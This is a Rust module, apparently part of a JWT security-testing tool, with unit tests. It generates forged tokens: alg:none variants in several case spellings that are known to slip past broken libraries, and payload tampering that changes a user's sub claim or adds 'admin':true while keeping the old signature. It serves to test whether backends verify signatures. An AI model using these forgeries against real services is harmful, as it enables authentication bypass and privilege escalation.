//! Forged copies of a token: unsigned (`alg:none`) and tampered. They work on any payload: a
//! claims object gets a changed claim, a bare JSON string or number another value of its type,
//! bytes that are not JSON a changed last byte.

use serde_json::{Map, Value};

use super::parse::{b64url, encode_object, Jws};

/// A forged copy of a token, with a label saying what was changed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ForgedToken {
    pub label: String,
    pub token: String,
}

/// Unsigned `alg:none` copies of `jws` (same payload byte for byte, other header fields kept) in
/// the spellings known to slip through broken libraries: `none`, `None`, `NONE`, `nOnE`, each with
/// an empty signature after a trailing dot, with no trailing dot, and with the original signature
/// kept.
pub fn alg_none_copies(jws: &Jws) -> Vec<ForgedToken> {
    let mut out = Vec::new();
    for spelling in ["none", "None", "NONE", "nOnE"] {
        let mut header = jws.header.clone();
        header.insert("alg".into(), Value::from(spelling));
        let input = format!("{}.{}", encode_object(&header), jws.raw_claims);
        out.push(ForgedToken {
            label: format!("alg={spelling}, empty signature"),
            token: format!("{input}."),
        });
        out.push(ForgedToken {
            label: format!("alg={spelling}, no trailing dot"),
            token: input.clone(),
        });
        out.push(ForgedToken {
            label: format!("alg={spelling}, original signature kept"),
            token: format!("{input}.{}", jws.raw_signature),
        });
    }
    out
}

/// A copy of `jws` whose payload says something else while header and signature stay as they were.
/// A claims object: changes `sub` (or, without one, the first string or number claim that is not a
/// time claim; or adds `"admin":true`). Any other payload: another value of the same JSON type, or
/// a changed last byte. Returns the token and a description of the change.
pub fn tamper(jws: &Jws) -> ForgedToken {
    match &jws.payload {
        Some(Value::Object(_)) => tamper_claims(jws),
        Some(other) => {
            let new = match other {
                Value::String(_) | Value::Number(_) => altered(other),
                Value::Bool(b) => Value::Bool(!b),
                _ => Value::from("tampered"),
            };
            // Serialising a JSON value cannot fail.
            let bytes = serde_json::to_vec(&new).expect("json value serialises");
            ForgedToken {
                label: format!(
                    "payload ({}) changed from {other} to {new}",
                    jws.payload_kind()
                ),
                token: with_payload(jws, &bytes),
            }
        }
        None => {
            let mut bytes = jws.payload_bytes.clone();
            match bytes.last_mut() {
                Some(last) => *last ^= 0x01,
                None => bytes.push(b'x'),
            }
            ForgedToken {
                label: "payload (not JSON) changed in its last byte".into(),
                token: with_payload(jws, &bytes),
            }
        }
    }
}

fn tamper_claims(jws: &Jws) -> ForgedToken {
    let mut claims = jws.claims.clone();
    let target = if claims.contains_key("sub") {
        Some("sub".to_owned())
    } else {
        claims
            .iter()
            .find(|(k, v)| {
                !matches!(k.as_str(), "exp" | "iat" | "nbf") && (v.is_string() || v.is_number())
            })
            .map(|(k, _)| k.clone())
    };
    let label = match target {
        Some(name) => {
            let old = claims.get(&name).cloned().unwrap_or(Value::Null);
            let new = altered(&old);
            let label = format!("claim {name} changed from {old} to {new}");
            claims.insert(name, new);
            label
        }
        None => {
            claims.insert("admin".into(), Value::Bool(true));
            "claim admin=true added".to_owned()
        }
    };
    ForgedToken {
        label,
        token: with_claims(jws, &claims),
    }
}

/// `jws` with its payload replaced by `claims`, header and signature kept byte for byte (so the
/// signature no longer matches: a backend that accepts it does not verify signatures).
pub fn with_claims(jws: &Jws, claims: &Map<String, Value>) -> String {
    format!(
        "{}.{}.{}",
        jws.raw_header,
        encode_object(claims),
        jws.raw_signature
    )
}

/// `jws` with its payload replaced by `payload` (any bytes), header and signature kept.
pub fn with_payload(jws: &Jws, payload: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        jws.raw_header,
        b64url(payload),
        jws.raw_signature
    )
}

/// A different value of the same JSON type (a user id becomes another plausible user id).
fn altered(old: &Value) -> Value {
    match old {
        Value::String(s) if s.is_empty() => Value::from("u-1"),
        Value::String(s) => {
            let mut chars: Vec<char> = s.chars().collect();
            if let Some(last) = chars.last_mut() {
                *last = match *last {
                    '0'..='8' | 'a'..='y' | 'A'..='Y' => char::from(*last as u8 + 1),
                    _ => '0',
                };
            }
            Value::from(chars.into_iter().collect::<String>())
        }
        Value::Number(n) => match n.as_i64() {
            Some(i) => Value::from(i.wrapping_add(1)),
            None => Value::from(n.as_f64().unwrap_or(0.0) + 1.0),
        },
        _ => Value::from("tampered"),
    }
}

#[cfg(test)]
mod tests {
    use super::super::parse::tests::{obj, token_with_payload, JWT_IO};
    use super::super::parse::{b64_decode_lenient, decode, mint, HmacAlg};
    use super::*;
    use serde_json::json;

    #[test]
    fn alg_none_copies_keep_the_claims_and_carry_no_valid_signature() {
        let jws = decode(JWT_IO).unwrap();
        let copies = alg_none_copies(&jws);
        assert_eq!(copies.len(), 12);
        for copy in &copies {
            let head = copy.token.split('.').next().unwrap();
            let header: Value = serde_json::from_slice(&b64_decode_lenient(head).unwrap()).unwrap();
            assert_eq!(header["alg"].as_str().unwrap().to_lowercase(), "none");
            assert_eq!(header["typ"], "JWT");
            let body = copy.token.split('.').nth(1).unwrap();
            assert_eq!(
                b64_decode_lenient(body).unwrap(),
                serde_json::to_vec(&jws.claims).unwrap()
            );
        }
        assert!(copies.iter().any(|c| c.token.ends_with('.')));
        assert!(copies.iter().any(|c| c.token.matches('.').count() == 1));
    }

    #[test]
    fn alg_none_copies_of_a_bare_string_payload_keep_it() {
        let jws = decode(&token_with_payload(b"\"o-user\"", b"k")).unwrap();
        for copy in alg_none_copies(&jws) {
            let body = copy.token.split('.').nth(1).unwrap();
            assert_eq!(b64_decode_lenient(body).unwrap(), b"\"o-user\"");
        }
    }

    #[test]
    fn tampering_changes_sub_and_keeps_header_and_signature() {
        let jws = decode(JWT_IO).unwrap();
        let forged = tamper(&jws);
        let copy = decode(&forged.token).unwrap();
        assert_eq!(copy.raw_header, jws.raw_header);
        assert_eq!(copy.raw_signature, jws.raw_signature);
        assert_eq!(copy.claims["sub"], "1234567891");
        assert_eq!(copy.claims["name"], "John Doe");
        assert!(!copy.verifies_with(b"your-256-bit-secret"));
        assert!(forged.label.contains("sub"));
    }

    #[test]
    fn tampering_without_sub_changes_another_claim_or_adds_one() {
        let jws = decode(&mint(
            HmacAlg::Hs256,
            &obj(json!({"exp": 5, "uid": 41})),
            b"k",
        ))
        .unwrap();
        assert_eq!(decode(&tamper(&jws).token).unwrap().claims["uid"], 42);
        let jws = decode(&mint(HmacAlg::Hs256, &obj(json!({"exp": 5})), b"k")).unwrap();
        let copy = decode(&tamper(&jws).token).unwrap();
        assert_eq!(copy.claims["admin"], true);
        assert_eq!(copy.claims["exp"], 5);
    }

    #[test]
    fn bare_payloads_are_tampered_too() {
        for (payload, changed) in [
            (&b"\"o-user1\""[..], &b"\"o-user2\""[..]),
            (b"41", b"42"),
            (b"true", b"false"),
        ] {
            let jws = decode(&token_with_payload(payload, b"k")).unwrap();
            let copy = decode(&tamper(&jws).token).unwrap();
            assert_eq!(copy.payload_bytes, changed);
            assert_eq!(copy.raw_signature, jws.raw_signature);
            assert!(!copy.verifies_with(b"k"));
        }
        let jws = decode(&token_with_payload(b"raw", b"k")).unwrap();
        let copy = decode(&tamper(&jws).token).unwrap();
        assert_eq!(copy.payload_bytes, b"rav");
    }
}
